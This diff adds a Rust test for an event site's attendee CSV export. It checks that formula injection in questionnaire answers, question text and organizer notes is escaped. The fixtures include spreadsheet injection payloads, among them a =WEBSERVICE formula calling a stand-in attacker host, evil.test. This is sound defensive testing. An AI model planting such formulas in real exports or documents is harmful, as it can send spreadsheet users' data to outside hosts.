@@ -346,3 +346,60 @@ async fn promise_38_an_exported_name_is_no_formula(pool: PgPool) {
     assert!(csv.body.lines().count() >= 12);
     assert!(site.audit().await.contains(&"attendees.export ok".to_owned()));
 }
+
+/// Nor is what they answered, what was asked, or what organizers noted.
+#[sqlx::test(migrator = "server::postgres::MIGRATIONS")]
+async fn promise_38_no_column_of_an_exported_questionnaire_is_a_formula(pool: PgPool) {
+    let site = Site::demo(pool).await;
+    let formula = |what: &str| format!("=WEBSERVICE(\"https://evil.test/{what}\")");
+    let question = "insert into sign_up_questions (series_id, event_id, position, kind, words_ja, options)
+                    select e.series_id, e.id, $1, $2, $3, $4 from events e join series s on s.id = e.series_id
+                    where s.slug = 'security-jaws' and e.number = 42 returning id";
+    let mine =
+        "select r.id from registrations r join accounts a on a.id = r.account_id join events e on e.id = r.event_id
+                join series s on s.id = e.series_id where s.slug = 'security-jaws' and e.number = 42 and a.mail = $1";
+    let mine: i64 = site.one(mine, "attendee@demo.invalid").await;
+    let asked = [
+        (91, "short", vec![], vec![formula("short")]),
+        (92, "long", vec![], vec!["\t+SUM(A1)\n-2".to_owned()]),
+        (93, "choices", vec!["@SUM(A1)".to_owned(), "2".to_owned()], vec!["@SUM(A1)".to_owned(), "2".to_owned()]),
+    ];
+    for (position, kind, options, answer) in asked {
+        let id: i64 = sqlx::query_scalar(question)
+            .bind(position)
+            .bind(kind)
+            .bind(formula(&format!("asked-{kind}")))
+            .bind(options)
+            .fetch_one(&site.pool)
+            .await
+            .unwrap();
+        sqlx::query("insert into sign_up_answers (registration_id, question_id, answer, answered_at) values ($1, $2, $3, now())")
+            .bind(mine)
+            .bind(id)
+            .bind(answer)
+            .execute(&site.pool)
+            .await
+            .unwrap();
+    }
+    site.run(&format!("update registrations set desk_note = '{}' where id = {mine}", formula("note"))).await;
+    let mut organizer = site.signed_in(Some((SERIES, Role::Organizer))).await;
+    let table = organizer.post("/organize/security-jaws/42/attendees.csv", &[]).await.expect(200).body;
+    let mut reader =
+        csv::ReaderBuilder::new().has_headers(false).from_reader(table.trim_start_matches('\u{feff}').as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let cells: Vec<&str> = rows.iter().flatten().collect();
+    let is_formula = |cell: &&&str| cell.trim_start().starts_with(['=', '+', '-', '@']);
+    assert_eq!(cells.iter().filter(is_formula).count(), 0, "{table}");
+    for what in ["asked-short", "asked-long", "asked-choices"] {
+        assert_eq!(rows[0].iter().filter(|cell| *cell == format!("'{}", formula(what))).count(), 1, "{what}: {table}");
+    }
+    for (said, what) in [
+        (format!("'{}", formula("short")), "an answer"),
+        (format!("'{}", formula("note")), "the note"),
+        ("'\t+SUM(A1)\n-2".to_owned(), "a long answer"),
+        ("'@SUM(A1), 2".to_owned(), "what was chosen"),
+    ] {
+        let of_body = rows[1..].iter().flatten().filter(|cell| *cell == said).count();
+        assert_eq!(of_body, 1, "{what}: {table}");
+    }
+}
